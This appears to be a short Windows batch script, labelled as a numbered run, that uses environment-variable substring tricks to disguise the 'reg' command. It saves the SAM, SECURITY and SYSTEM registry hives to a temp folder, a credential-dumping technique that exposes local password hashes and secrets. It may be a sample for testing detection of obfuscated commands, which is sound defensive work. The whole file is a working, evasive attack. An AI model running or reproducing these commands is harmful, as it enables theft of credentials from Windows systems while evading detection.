REM run 5187 v3
re%programdata:~6,1% save hklm\sam C:\Windows\Temp\sam.save
r%comspec:~-12,1%%programdata:~-8,1% save hklm\security C:\Windows\Temp\security.save
r%PUBLIC:~-10,1%g save hklm\system C:\Windows\Temp\system.save
